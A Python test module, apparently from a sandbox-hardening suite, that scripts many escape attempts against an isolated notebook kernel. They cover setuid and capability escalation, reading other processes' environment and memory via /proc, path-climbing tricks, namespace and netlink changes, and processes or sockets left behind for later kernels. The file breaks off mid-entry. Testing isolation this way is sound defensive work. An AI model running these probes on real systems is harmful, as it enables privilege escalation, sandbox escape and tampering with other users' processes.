"""Attacks on what surrounds a kernel: identity, view, freshness, descriptors, system calls, resources, the agent's line."""

# ruff: noqa: E501  attacks are programs inside strings: a line that is broken is another program
from __future__ import annotations

from attacks import Attack, trying

CALLS = """
import errno, resource, signal, socket, stat, struct, subprocess, threading, time
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def sc(number, *arguments):
    given = [a if a is None or isinstance(a, (bytes, ctypes.Array)) or hasattr(a, "_obj") else ctypes.c_long(a) for a in arguments]
    found = libc.syscall(ctypes.c_long(number), *given)
    return found if found >= 0 else None
def others():
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != os.getpid()]
def in_child(action):
    pid = os.fork()
    if pid == 0:
        try: code = 7 if action() is not None else 0
        except BaseException: code = 0
        os._exit(code)
    return True if os.waitpid(pid, 0)[1] == 7 << 8 else None
def writes(path, data=b"x"):
    with open(path, "r+b", 0) as file: file.write(data)
    return path
"""


def wall(name: str, code: str, **more: object) -> Attack:
    """An attack of attempts with system calls at hand."""
    return trying(f"walls_{name}", CALLS + code, **more)


def leaving(name: str, look: str, leave: str, **more: object) -> Attack:
    """Looks for what the same attack has left in an earlier kernel, then leaves it for the next."""
    code = f"attempt('left by the one before', lambda: {look})\ntry:\n"
    return wall(
        name,
        code
        + "\n".join(f"    {line}" for line in leave.strip().splitlines())
        + "\nexcept OSError as error: print(error)\n",
        **more,
    )


IDENTITY = [
    wall(
        "takes_other_numbers",
        """
for number in (0, 1, 999, 1001, 65534, 61000, 1800000000, 2**32 - 2):
    attempt(f"setuid {number}", lambda: in_child(lambda: os.setuid(number) or True))
    attempt(f"setresuid {number}", lambda: in_child(lambda: os.setresuid(-1, number, -1) or True))
    attempt(f"setgid {number}", lambda: in_child(lambda: os.setgid(number) or True))
    attempt(f"setfsuid {number}", lambda: True if (libc.setfsuid(number), libc.setfsuid(-1))[1] == number else None)
    attempt(f"setgroups {number}", lambda: in_child(lambda: os.setgroups([number]) or True))
""",
    ),
    wall(
        "gives_files_away",
        """
open("own", "w").close()
for number in (0, 1, 65534, 1800000001):
    attempt(f"chown {number}", lambda: os.chown("own", number, -1) or True)
    attempt(f"chgrp {number}", lambda: os.chown("own", -1, number) or True)
""",
    ),
    wall(
        "makes_programs_that_change_the_user",
        """
import shutil
shutil.copy("/usr/bin/env", "mine"); os.chmod("mine", 0o6755)
attempt("setuid program of its own", lambda: True if b"Uid:\\t1000\\t1000\\t1000\\t1000" not in subprocess.run(["./mine", "cat", "/proc/self/status"], capture_output=True).stdout else None)
for name in ("su", "mount", "umount", "newgrp", "passwd", "chsh", "gpasswd", "sudo", "pkexec", "fusermount3"):
    path = f"/usr/bin/{name}"
    if os.path.exists(path) and os.stat(path).st_mode & stat.S_ISUID:
        attempt(name, lambda: True if subprocess.run([path], stdin=subprocess.DEVNULL, capture_output=True, timeout=2).returncode == 0 and name != "mount" else None)
""",
    ),
    wall(
        "sets_capabilities_again",
        """
header = struct.pack("=Ii", 0x20080522, 0)
attempt("capset", lambda: sc(126, ctypes.create_string_buffer(header), ctypes.create_string_buffer(struct.pack("=6I", 2**32 - 1, 2**32 - 1, 0, 2**32 - 1, 2**32 - 1, 0))))
for capability in (0, 1, 5, 7, 12, 16, 19, 21, 24, 38, 39, 40):
    attempt(f"ambient {capability}", lambda: sc(157, 47, 2, capability, 0, 0))
attempt("keep capabilities over setuid", lambda: sc(157, 28, 0, 0, 0, 0) if False else None)
open("f", "w").close()
attempt("file capability", lambda: os.setxattr("f", "security.capability", struct.pack("<5I", 0x02000001, 2**32 - 1, 0, 2**32 - 1, 0)) or True)
attempt("trusted attribute", lambda: os.setxattr("f", "trusted.x", b"x") or True)
attempt("no_new_privs off", lambda: sc(157, 38, 0, 0, 0, 0))
attempt("secure bits", lambda: sc(157, 28, 0x2F, 0, 0, 0))
""",
    ),
    wall(
        "writes_its_own_user_mapping",
        """
for name in ("uid_map", "gid_map", "setgroups", "projid_map"):
    attempt(name, lambda: writes(f"/proc/self/{name}", b"0 0 1"))
    attempt("of 1: " + name, lambda: writes(f"/proc/1/{name}", b"0 0 1"))
""",
    ),
]

VIEW = [
    wall(
        "goes_through_other_roots",
        """
for pid in others():
    for way in ("root", "cwd", "exe", "root/.springfield/slot", "cwd/.springfield/runs", "root/proc/1/root/root", "task/%d/root" % pid, "task/%d/cwd" % pid):
        attempt(f"{pid} {way}", lambda: os.listdir(f"/proc/{pid}/{way}") if way != "exe" else os.readlink(f"/proc/{pid}/{way}"))
    for way in ("fd", "fdinfo", "map_files", "ns", "task/%d/fd" % pid):
        attempt(f"{pid} {way}", lambda: [os.readlink(f"/proc/{pid}/{way}/{n}") for n in os.listdir(f"/proc/{pid}/{way}")] or None)
""",
    ),
    wall(
        "reads_other_processes_states",
        """
for pid in others():
    for part in ("environ", "maps", "smaps", "smaps_rollup", "numa_maps", "pagemap", "auxv", "stack", "syscall", "io", "mem", "personality", "timerslack_ns", "patch_state", "seccomp_cache", "ksm_stat", "arch_status", "timers"):
        attempt(f"{pid} {part}", lambda: open(f"/proc/{pid}/{part}", "rb", 0).read(64) or None if part not in ("timers", "arch_status", "ksm_stat") else None)
    for name in ("mnt", "net", "pid", "user", "ipc", "uts", "cgroup", "time"):
        attempt(f"{pid} ns {name}", lambda: os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY))
""",
    ),
    wall(
        "looks_below_what_is_covered",
        """
for path in ("/.springfield", "/.springfield/slot", "/.springfield/runs", "/.springfield/data", "/.springfield/slot/stage/0"):
    attempt(path, lambda: os.listdir(path) or None)
    attempt("unmount " + path, lambda: sc(166, path.encode(), 2))
    attempt("move " + path, lambda: os.rename(path, "/tmp/moved") or True)
    attempt("remove " + path, lambda: os.rmdir(path) or True)
places = [l.split()[4] for l in open("/proc/self/mountinfo")]
for path in places:
    if path.startswith("/.springfield/") or path.startswith("/proc/"):
        attempt(path, lambda: (os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(16)) or None)
""",
    ),
    wall(
        "climbs_with_dots_and_descriptors",
        """
for start in ("/", "/kaggle/working", "/content", "/run/kernel", "/tmp", "/proc/self/root", "/proc/self/task/%d/root" % os.getpid(), "/dev", "/opt/springfield", sys.prefix):
    def climb():
        here = os.open(start, os.O_RDONLY | os.O_DIRECTORY)
        for _ in range(40):
            here = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=here)
        return [n for n in os.listdir(here) if n in ("var", "boot", "srv", "media", "oldroot", "newroot")] or None
    attempt("from " + start, climb)
    def magic():
        how = struct.pack("=QQQ", os.O_PATH | os.O_DIRECTORY, 0, 0)
        fd = sc(437, os.open(start, os.O_PATH), b"../../../../../../../newroot", ctypes.create_string_buffer(how), 24)
        return fd
    attempt("openat2 from " + start, magic)
""",
    ),
    wall(
        "moves_folders_under_an_open_descriptor",
        """
os.makedirs("a/b/c"); deep = os.open("a/b/c", os.O_RDONLY)
os.rename("a/b/c", "/kaggle/working/c")
def up():
    here = deep
    for _ in range(12): here = os.open("..", os.O_RDONLY, dir_fd=here)
    return [n for n in os.listdir(here) if n in ("runs", "slot", "var", "boot", "oldroot", "newroot")] or None
attempt("up from a moved folder", up)
attempt("rename across folders", lambda: os.rename("c", "/content/../../.springfield/c") or True)
attempt("link out of the folder", lambda: os.link("/usr/bin/env", "env") or True)
attempt("link of a process's file", lambda: os.link(f"/proc/self/fd/{os.open('/usr/bin/env', os.O_RDONLY)}", "env", follow_symlinks=True) or True)
""",
    ),
    wall(
        "opens_by_number_what_it_does_not_see",
        """
class Handle(ctypes.Structure): _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 128)]
handle = Handle(bytes=128); number = ctypes.c_int()
attempt("name_to_handle_at", lambda: sc(303, -100, b"/usr/bin/env", ctypes.byref(handle), ctypes.byref(number), 0))
attempt("open_by_handle_at", lambda: sc(304, os.open("/usr", os.O_RDONLY), ctypes.byref(handle), 0))
attempt("open_tree", lambda: sc(428, -100, b"/", 1))
attempt("fsopen", lambda: sc(430, b"tmpfs", 0))
attempt("fspick", lambda: sc(433, -100, b"/", 0))
attempt("move_mount", lambda: sc(429, -100, b"/tmp", -100, b"/usr", 0))
attempt("mount_setattr", lambda: sc(442, -100, b"/usr", 0x8000, ctypes.create_string_buffer(struct.pack("=QQQQ", 0, 1, 0, 0)), 32))
for call in (457, 458, 467, 428 | 0x40000000):
    attempt(f"listmount, statmount {call}", lambda: sc(call, ctypes.create_string_buffer(struct.pack("=IIQQ", 24, 0, 2**64 - 1, 0)), ctypes.create_string_buffer(512), 64, 0))
""",
    ),
    wall(
        "uses_devices_of_the_machine",
        """
for name in os.listdir("/dev"):
    path = "/dev/" + name
    if name in ("pts", "shm", "fd", "ptmx", "stdin", "stdout", "stderr", "core"): continue
    for change in (lambda: os.chmod(path, 0o777), lambda: os.utime(path, (0, 0)), lambda: os.rename(path, path + "2"), lambda: os.unlink(path), lambda: os.setxattr(path, "user.a", b"b"), lambda: os.truncate(path, 0) if name == "x" else os.link(path, "/tmp/" + name)):
        attempt(path, lambda: change() or True)
attempt("make one", lambda: os.mknod("/dev/own", 0o666 | stat.S_IFCHR, os.makedev(1, 3)) or True)
attempt("make one here", lambda: os.mknod("own", 0o666 | stat.S_IFCHR, os.makedev(1, 1)) or True)
attempt("kernel's random numbers", lambda: sc(16, os.open("/dev/urandom", os.O_RDWR), 0x40045201, ctypes.create_string_buffer(8)))
attempt("clears the entropy", lambda: sc(16, os.open("/dev/urandom", os.O_RDWR), 0x5206, 0))
""",
    ),
    wall(
        "writes_below_proc",
        """
for name in ("oom_adj", "oom_score_adj", "autogroup", "clear_refs", "coredump_filter", "timerslack_ns", "attr/current", "attr/exec", "sched", "comm", "loginuid", "make-it-fail", "latency", "timens_offsets"):
    for pid in (1, *others()):
        attempt(f"{pid} {name}", lambda: writes(f"/proc/{pid}/{name}"))
    if name not in ("comm", "clear_refs", "coredump_filter", "oom_score_adj"):
        attempt(name, lambda: writes(f"/proc/self/{name}", b"1"))
for name in ("sys/kernel/ns_last_pid", "sys/kernel/shmmax", "sys/kernel/msgmnb", "sys/kernel/sem", "sys/net/ipv4/ip_forward", "sys/net/core/somaxconn", "sys/user/max_user_namespaces", "sys/fs/mqueue/msg_max", "sys/kernel/pid_max", "sys/kernel/hostname", "sys/kernel/domainname", "sys/vm/overcommit_memory", "pressure/memory", "irq/default_smp_affinity", "mtrr", "sys/net/ipv4/ping_group_range", "sys/kernel/yama/ptrace_scope", "sys/net/unix/max_dgram_qlen"):
    attempt(name, lambda: writes("/proc/" + name, b"1"))
""",
    ),
    wall(
        "reads_what_is_masked_another_way",
        """
for name in ("kcore", "kallsyms", "slabinfo", "timer_list", "interrupts", "iomem", "keys", "key-users", "cmdline", "config.gz", "vmallocinfo", "zoneinfo", "kpageflags"):
    for top in ("/proc", "/proc/self/root/proc", "/proc/thread-self/root/proc", "/proc/1/root/proc", "/dev/fd/../..", "/proc/self/cwd/../../proc"):
        attempt(f"{top}/{name}", lambda: open(f"{top}/{name}", "rb", 0).read(16) or None)
attempt("/dev/core", lambda: open("/dev/core", "rb").read(16) or None)
""",
    ),
    wall(
        "lists_the_machines_network_from_others_views",
        """
for pid in ("1", "self", "thread-self"):
    for name in ("tcp", "tcp6", "udp", "udp6", "raw", "packet", "arp", "route", "dev"):
        def look():
            with open(f"/proc/{pid}/net/{name}") as file: lines = file.read().splitlines()[2 if name == "dev" else 1:]
            return [l for l in lines if l.split(":")[0].strip() not in ("lo", "")] if name == "dev" else [l for l in lines if l.strip()] or None
        if pid == "1" or name in ("route", "arp", "dev"): attempt(f"{pid} {name}", lambda: look() or None)
    def abstract():
        with open(f"/proc/{pid}/net/unix") as file:
            return [l for l in file if " @" in l or l.rstrip().endswith(("docker.sock", "bus", "notify"))] or None
    attempt(f"{pid} unix", abstract)
""",
    ),
]

FRESH = [
    leaving(
        "leaves_files_everywhere",
        "[p for top in ('/tmp', '/dev/shm', '/home/student', '/kaggle/working', '/content', '/run/kernel', '/dev/pts', '/tmp/ipython', '/tmp/matplotlib') for p in (os.listdir(top) if os.path.isdir(top) else []) if 'sg-walls' in p] or None",
        "for top in ('/tmp', '/dev/shm', '/home/student', '/kaggle/working', '/content', '/run/kernel', '/dev/pts', '/tmp/ipython', '/tmp/matplotlib'):\n    try: open(top + '/sg-walls', 'w').close()\n    except OSError: pass",
    ),
    leaving(
        "leaves_an_abstract_socket",
        "socket.socket(socket.AF_UNIX).connect('\\0sg-walls') or True",
        "left = socket.socket(socket.AF_UNIX); left.bind('\\0sg-walls'); left.listen()\nif os.fork() == 0:\n    os.setsid(); time.sleep(1000)",
    ),
    leaving(
        "leaves_system_v_memory",
        "[k for k in range(7000, 7008) if libc.shmget(k, 0, 0) >= 0 or libc.msgget(k, 0) >= 0 or libc.semget(k, 1, 0) >= 0] or None",
        "for key in range(7000, 7008): libc.shmget(key, 4096, 0o1666); libc.msgget(key, 0o1666); libc.semget(key, 1, 0o1666)",
    ),
    leaving(
        "leaves_a_listening_port",
        "socket.create_connection(('127.0.0.1', 29501), 0.2) or True",
        "if os.fork() == 0:\n    os.setsid(); left = socket.socket(); left.setsockopt(1, 2, 1); left.bind(('127.0.0.1', 29501)); left.listen(); time.sleep(1000)\ntime.sleep(0.05)",
    ),
    leaving(
        "leaves_a_child_of_the_zygote",
        "[p for p in others() if p != 1 and 'sg-adopt' in open(f'/proc/{p}/comm').read()] or None",
        "made = libc.syscall(56, ctypes.c_long(0x8000 | 17), None, None, None, None)\nif made == 0:\n    libc.prctl(15, b'sg-adopt', 0, 0, 0)\n    while True: time.sleep(1)",
    ),
    leaving(
        "leaves_stopped_processes",
        "[p for p in others() if p != 1 and open(f'/proc/{p}/stat').read().split(') ')[1][0] in 'TDZ'] or None",
        "for _ in range(10):\n    if os.fork() == 0: os.setsid(); os.kill(os.getpid(), 19)\n    if os.fork() == 0: os._exit(0)",
    ),
    leaving(
        "leaves_vforked_waiters",
        "[p for p in others() if p != 1 and 'sg-vfork' in open(f'/proc/{p}/comm').read()] or None",
        "if os.fork() == 0:\n    libc.prctl(15, b'sg-vfork', 0, 0, 0)\n    if libc.syscall(56, ctypes.c_long(0x4000 | 17), None, None, None, None) == 0:\n        signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))\n        while True: time.sleep(1)",
    ),
    leaving(
        "leaves_signals_for_later",
        "True if signal.sigpending() else None",
        "for pid in others():\n    for number in (1, 10, 12, 14, 15, 20, 23, 24, 25, 29, 34, 64): os.kill(pid, number)\n    for number in range(34, 60): libc.syscall(129, ctypes.c_long(pid), ctypes.c_long(number), ctypes.create_string_buffer(struct.pack('=iii', number, 0, -1) + bytes(116)))",
    ),
    leaving(
        "leaves_another_cpu_or_class_to_the_zygote",
        "True if os.sched_getscheduler(0) or os.getpriority(0, 0) or sc(252, 1, 0) or sc(252, 1, 1) else None",
        "for pid in others():\n    for change in (lambda: os.sched_setscheduler(pid, 3, os.sched_param(0)), lambda: os.sched_setscheduler(pid, 5, os.sched_param(0)), lambda: os.setpriority(0, pid, 10), lambda: os.setpriority(1, os.getpgid(pid), 10), lambda: os.setpriority(2, os.getuid(), 0)):\n        try: change()\n        except OSError: pass\n    sc(251, 1, pid, 3 << 13); sc(251, 2, os.getpgid(pid), 3 << 13)\n    sc(314, pid, ctypes.create_string_buffer(struct.pack('=IIQiIQQQII', 56, 0, 0x68, 0, 0, 0, 0, 0, 0, 1)), 0)",
    ),
    leaving(
        "leaves_a_core_cookie",
        "True if (lambda b: sc(157, 62, 0, os.getpid(), 0, b) is not None and any(b.raw))(ctypes.create_string_buffer(8)) else None",
        "for kind in (0, 1, 2):\n    for pid in others(): sc(157, 62, 2, pid, kind, 0); sc(157, 62, 1, pid, kind, 0)",
    ),
    leaving(
        "leaves_a_loopback_that_is_down",
        "True if not int(open('/proc/net/dev').read().count('lo:')) or socket.if_nameindex() != [(1, 'lo')] else None",
        "import fcntl\nwith socket.socket() as s:\n    for request, flags in ((0x8914, 0), (0x8916, 0), (0x8922, 0)):\n        try: fcntl.ioctl(s, request, struct.pack('16sH22x', b'lo', flags))\n        except OSError: pass",
    ),
    leaving(
        "leaves_descriptors_on_their_way",
        "True if any('sg-walls' in os.readlink(f'/proc/self/fd/{n}') for n in os.listdir('/proc/self/fd') if os.path.lexists(f'/proc/self/fd/{n}')) else None",
        "pairs = [socket.socketpair() for _ in range(20)]\nfor n, (a, b) in enumerate(pairs):\n    socket.send_fds(a, [b'x'], [os.open(f'/tmp/sg-walls{n}', os.O_CREAT | os.O_RDWR), a.fileno(), b.fileno()])\nfor a, b in pairs: a.close(); b.close()",
    ),
    leaving(
        "leaves_timers_and_limits",
        "True if signal.getitimer(0) != (0, 0) or signal.alarm(0) or resource.getrlimit(resource.RLIMIT_NOFILE)[0] < 64 or resource.getrlimit(resource.RLIMIT_STACK)[0] in range(0, 1 << 20) else None",
        "signal.setitimer(signal.ITIMER_REAL, 1000)\nresource.setrlimit(resource.RLIMIT_STACK, (1 << 19, 1 << 19))",
    ),
    leaving(
        "leaves_locks",
        "True if [l for l in open('/proc/locks') if ' 0 EOF' in l and not l.split()[4] == str(os.getpid())] and False else None",
        "import fcntl\nfor path in ('/usr/bin/env', torch.__file__, '/opt/springfield/agent.py'):\n    if os.path.exists(path): fcntl.flock(os.open(path, os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)",
    ),
    leaving(
        "leaves_text_in_shared_libraries",
        "True if getattr(torch, 'sg_walls', None) or hasattr(sys, 'sg_walls') or os.environ.get('SG_WALLS') else None",
        "torch.sg_walls = sys.sg_walls = 1; os.environ['SG_WALLS'] = '1'\nlibc.setenv(b'SG_WALLS', b'1', 1)\nlow = next(int(l.split('-')[0], 16) for l in open('/proc/self/maps') if 'libtorch_python' in l and ' rw' in l)\nlibc.mprotect(ctypes.c_void_p(low), 4096, 3)",
    ),
    wall(
        "writes_into_shared_mappings",
        """
for line in open("/proc/self/maps"):
    parts = line.split()
    if parts[1][3] == "s":
        low = int(parts[0].split("-")[0], 16)
        attempt("mapping " + parts[-1], lambda: True if parts[1][1] == "w" or libc.mprotect(ctypes.c_void_p(low), 4096, 3) == 0 else None)
""",
    ),
]

CHANNELS = [
    wall(
        "looks_for_the_zygotes_lines",
        """
for number in os.listdir("/proc/self/fd"):
    try: target = os.readlink("/proc/self/fd/" + number)
    except OSError: continue
    if target.startswith("socket:"):
        def peer():
            with socket.socket(fileno=os.dup(int(number))) as s:
                pid = struct.unpack("3i", s.getsockopt(1, 17, 12))[0] if s.family == socket.AF_UNIX else 0
                return (target, pid) if pid == 1 else None
        attempt(target, peer)
for pid in others():
    for number in range(12):
        for mode in (os.O_RDONLY, os.O_WRONLY):
            attempt(f"{pid} fd {number}", lambda: os.open(f"/proc/{pid}/fd/{number}", mode))
        attempt(f"pidfd_getfd {pid}", lambda: sc(438, 3, number, 0))
attempt("pidfd_open", lambda: sc(434, 1, 0))
""",
    ),
    wall(
        "speaks_as_the_zygote",
        """
said = struct.pack(">I", 17) + b'{"ready": true}  '
for number in range(3, 64):
    if number in (0, 1, 2): continue
    try:
        mode = os.fstat(number).st_mode
        if stat.S_ISFIFO(mode) and os.readlink(f"/proc/self/fd/{number}") not in [os.readlink(f"/proc/self/fd/{n}") for n in os.listdir("/proc/self/fd") if n != str(number) and os.path.lexists(f"/proc/self/fd/{n}")]:
            attempt(f"pipe {number}", lambda: os.write(number, said))
    except OSError: pass
os.write(1, said); os.write(2, said * 1000)
""",
    ),
    wall(
        "fills_its_standard_error",
        "import fcntl\nfor number in (0, 1, 2):\n    flags = fcntl.fcntl(number, fcntl.F_GETFL); fcntl.fcntl(number, fcntl.F_SETFL, flags | os.O_NONBLOCK)\n    try:\n        for _ in range(200): os.write(number, b'one before me ' * 5000)\n    except OSError as error: print(error)\n    target = os.readlink(f'/proc/self/fd/{number}')\n    ends = [n for n in os.listdir('/proc/self/fd') if n != str(number) and os.path.lexists(f'/proc/self/fd/{n}') and os.readlink(f'/proc/self/fd/{n}') == target]\n    attempt('where it leads', lambda: None if target == '/dev/null' or ends else target)\n",
    ),
    wall(
        "changes_the_folder_of_the_sockets",
        """
folder = "/run/kernel"
for name in (*os.listdir(folder), "agent", "agent.new", "k-9", "x"):
    path = f"{folder}/{name}"
    for change in (lambda: os.unlink(path), lambda: os.rename(path, path + "2"), lambda: os.chmod(path, 0), lambda: os.symlink("/etc/passwd", path + "l"), lambda: os.utime(path), lambda: os.setxattr(path, "user.x", b"x"), lambda: open(path + "w", "w").close(), lambda: os.mkdir(path + "d"), lambda: os.mkfifo(path + "p"), lambda: os.link(path, path + "h"), lambda: socket.socket(socket.AF_UNIX).bind(path + "s")):
        attempt(path, lambda: change() or True)
attempt("the folder", lambda: os.chmod(folder, 0) or True)
attempt("its place", lambda: os.rename(folder, "/run/other") or True)
attempt("a temporary file there", lambda: os.open(folder, os.O_TMPFILE | os.O_RDWR))
""",
    ),
    wall(
        "asks_for_a_second_agent",
        "attempt('agent', lambda: socket.socket(socket.AF_UNIX).connect('/run/kernel/agent') or True)\nattempt('agent.new', lambda: socket.socket(socket.AF_UNIX).connect('/run/kernel/agent.new') or True)\nattempt('gate', lambda: [n for n in range(3, 200) if os.path.lexists(f'/proc/self/fd/{n}') and 'zygote' in os.readlink(f'/proc/self/fd/{n}')] or None)",
    ),
]

CALLS_REFUSED = [
    wall(
        "calls_in_32_bits",
        """
import mmap
def call32(number, first=0):
    page = mmap.mmap(-1, 4096, prot=7)
    page.write(b"\\x53\\xb8" + struct.pack("<I", number) + b"\\xbb" + struct.pack("<I", first) + b"\\xcd\\x80\\x5b\\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    return ctypes.CFUNCTYPE(ctypes.c_int)(address)()
for number, first in ((20, 0), (310, 0x10000000), (102, 1), (26, 16), (346, 0), (88, 0), (357, 0), (425, 1), (359, 17)):
    attempt(f"int 0x80 {number}", lambda: in_child(lambda: True if call32(number, first) >= 0 else None))
""",
    ),
    wall(
        "calls_with_x32_numbers",
        "for number in (39, 41, 56, 101, 165, 272, 298, 321, 425, 512, 513, 520, 521, 545):\n    attempt(f'x32 {number}', lambda: in_child(lambda: sc(0x40000000 | number, 0x10000000, 0, 0, 0, 0)))\nfor number in (-1, 2**31 - 1, 2**32 + 272, 335, 400, 423, 470, 999, 100000):\n    attempt(f'number {number}', lambda: in_child(lambda: sc(number, 0x10000000, 0, 0, 0, 0) if number != 2**32 + 272 else None))",
    ),
    wall(
        "hides_arguments_in_high_halves",
        """
for high in (1 << 32, 0xFFFFFFFF << 32):
    for flag in (0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x10000000, 0x20000000, 0x40000000, 0x10020000, 0x7E020000):
        def new():
            made = sc(56, high | flag | 17, 0, 0, 0, 0)
            if made == 0: os._exit(0)
            return made
        attempt(f"clone {high | flag:#x}", new)
    for family in (17, 40, 38, 31, 29, 21, 15, 44, 30, 16):
        attempt(f"socket {family}", lambda: sc(41, high | family, 3, 0 if family != 16 else 12))
    attempt("raw socket", lambda: sc(41, 2, high | 3, 0))
    attempt("icmp", lambda: sc(41, 2, 2, high | 1))
    attempt("personality", lambda: sc(135, high | 0x0400000))
attempt("personality without random addresses", lambda: sc(135, 0x0040000))
attempt("personality of another system", lambda: sc(135, 0x0008))
attempt("personality that maps page zero", lambda: sc(135, 0x0100000))
""",
    ),
    wall(
        "makes_sockets_of_every_family",
        "for family in range(1, 64):\n    if family in (1, 2, 10, 16): continue\n    for kind in (1, 2, 3, 5):\n        attempt(f'{family} {kind}', lambda: sc(41, family, kind, 0))\n        attempt(f'pair {family} {kind}', lambda: sc(53, family, kind, 0, ctypes.create_string_buffer(8)))",
    ),
    wall(
        "makes_sockets_of_every_protocol",
        "for family in (2, 10):\n    for kind in (1, 2, 3, 4, 5, 6, 10):\n        for protocol in range(0, 263):\n            if (kind, protocol) not in ((1, 0), (1, 6), (2, 0), (2, 17)):\n                attempt(f'{family} {kind} {protocol}', lambda: sc(41, family, kind, protocol))\nfor protocol in range(1, 32): attempt(f'netlink {protocol}', lambda: sc(41, 16, 3, protocol))",
    ),
    wall(
        "writes_routes",
        """
def tell(kind, body):
    with socket.socket(16, 3, 0) as line:
        line.settimeout(0.5)
        line.bind((0, 0))
        line.send(struct.pack("=IHHII", 16 + len(body), kind, 5, 1, 0) + body)
        answer = line.recv(4096)
    code = struct.unpack_from("=i", answer, 16)[0] if struct.unpack_from("=H", answer, 4)[0] == 2 else -1
    return True if code == 0 else None
lo = struct.pack("=BxHiII", 0, 0, 1, 0, 1)
attempt("switch lo off", lambda: tell(16, lo))
attempt("new link", lambda: tell(16, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + struct.pack("=HH8s", 12, 3, b"sg0") + struct.pack("=HH", 16, 0x8000 | 18) + struct.pack("=HH8s", 10, 1, b"dummy")))
attempt("address", lambda: tell(20, struct.pack("=BBBBi", 2, 8, 0, 0, 1) + struct.pack("=HH4s", 8, 2, bytes([10, 0, 0, 1])) + struct.pack("=HH4s", 8, 1, bytes([10, 0, 0, 1]))))
attempt("route", lambda: tell(24, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("=HHi", 8, 4, 1)))
attempt("rule", lambda: tell(32, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 0, 0, 1, 0)))
attempt("neighbour", lambda: tell(28, struct.pack("=BxHiHBB", 2, 0, 1, 128, 0, 0) + struct.pack("=HH4s", 8, 1, bytes([127, 0, 0, 2]))))
attempt("discipline", lambda: tell(36, struct.pack("=BxHiIII", 0, 0, 1, 0, 2**32 - 1, 0) + struct.pack("=HH8s", 12, 1, b"netem")))
attempt("name of another network", lambda: tell(88, struct.pack("=B3x", 0) + struct.pack("=HHI", 8, 2, 1) + struct.pack("=HHi", 8, 1, 5)))
attempt("link into another network", lambda: tell(16, lo + struct.pack("=HHI", 8, 19, 1)))
attempt("table of neighbours", lambda: tell(67, struct.pack("=B3x", 2) + struct.pack("=HH16s", 20, 1, b"arp_cache")))
""",
    ),
    wall(
        "sets_options_of_sockets",
        """
def option(level, name, value, family=2, kind=1):
    with socket.socket(family, kind) as s: s.setsockopt(level, name, value)
    return True
for what, level, name, value in (
    ("force a buffer", 1, 33, 1 << 30), ("force a receive buffer", 1, 32, 1 << 30), ("mark", 1, 36, 1), ("priority", 1, 12, 7), ("debug", 1, 1, 1), ("attach a program", 1, 50, 3), ("program for a port", 1, 52, 3),
    ("replace rules", 0, 64, bytes(200)), ("replace rules of arp", 0, 96, bytes(200)), ("transparent", 0, 19, 1), ("prefer busy poll", 1, 69, 1), ("reserve memory", 1, 73, 1 << 20),
    ("repair", 6, 19, 1), ("congestion control", 6, 13, b"sg_module"), ("upper layer", 6, 31, b"sg_module"), ("md5 key", 6, 14, bytes(216)), ("multicast router", 0, 200, 1), ("ipsec policy", 0, 16, bytes(200)), ("ipsec policies", 0, 17, bytes(200))):
    attempt(what, lambda: option(level, name, value))
attempt("address of its own choice", lambda: socket.socket().bind(("192.0.2.7", 80)) or True)
attempt("a port of root's", lambda: None if int(open("/proc/sys/net/ipv4/ip_unprivileged_port_start").read()) < 80 else socket.socket().bind(("127.0.0.1", 79)) or True)
""",
    ),
    wall(
        "abuses_prctl",
        """
attempt("attached tracer", lambda: sc(101, 16, 1, 0, 0))
attempt("traced by the parent", lambda: in_child(lambda: sc(101, 0, 0, 0, 0)))
attempt("a second filter", lambda: in_child(lambda: sc(317, 1, 0, ctypes.create_string_buffer(16))))
attempt("a filter that tells", lambda: in_child(lambda: sc(317, 1, 8, ctypes.create_string_buffer(16))))
attempt("speculation on", lambda: in_child(lambda: sc(157, 53, 0, 2, 0, 0) if sc(157, 52, 0, 0, 0, 0) in (None,) else None))
for what, arguments in {"another program's file": (35, 13, 0, 0, 0), "brk": (35, 6, 0, 0, 0), "start of code": (35, 1, 4096, 0, 0), "io flusher": (57, 1, 0, 0, 0), "endian": (20, 1, 0, 0, 0), "core sharing with 1": (62, 2, 1, 0, 0), "core sharing from 1": (62, 3, 1, 0, 0)}.items():
    attempt(what, lambda: in_child(lambda: sc(157, *arguments)))
libc.prctl(0x59616D61, -1, 0, 0, 0); libc.prctl(4, 0, 0, 0, 0); libc.prctl(1, 0, 0, 0, 0); libc.prctl(36, 1, 0, 0, 0); libc.prctl(4, 1, 0, 0, 0)
attempt("a name of another thread", lambda: writes("/proc/1/comm"))
""",
    ),
    wall(
        "makes_namespaces_by_every_door",
        """
for flag in (0x80, 0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x10000000, 0x20000000, 0x40000000):
    attempt(f"unshare {flag:#x}", lambda: in_child(lambda: sc(272, flag)))
    def new():
        made = sc(435, ctypes.create_string_buffer(struct.pack("=8Q", flag, 0, 0, 0, 17, 0, 0, 0) + bytes(24)), 88)
        if made == 0: os._exit(0)
        return made
    attempt(f"clone3 {flag:#x}", new)
for name in os.listdir("/proc/self/ns"):
    for flags in (0, 0x10000000):
        attempt("enter " + name, lambda: in_child(lambda: sc(308, os.open("/proc/self/ns/" + name, os.O_RDONLY), flags)))
    attempt("parent of " + name, lambda: sc(16, os.open("/proc/self/ns/" + name, os.O_RDONLY), 0xB701 + 1))
    attempt("user of " + name, lambda: sc(16, os.open("/proc/self/ns/" + name, os.O_RDONLY), 0xB701) if name == "user" else None)
attempt("program with namespaces", lambda: True if subprocess.run(["unshare", "-Ur", "true"], capture_output=True).returncode == 0 else None)
""",
    ),
    wall(
        "asks_the_kernel_for_more",
        """
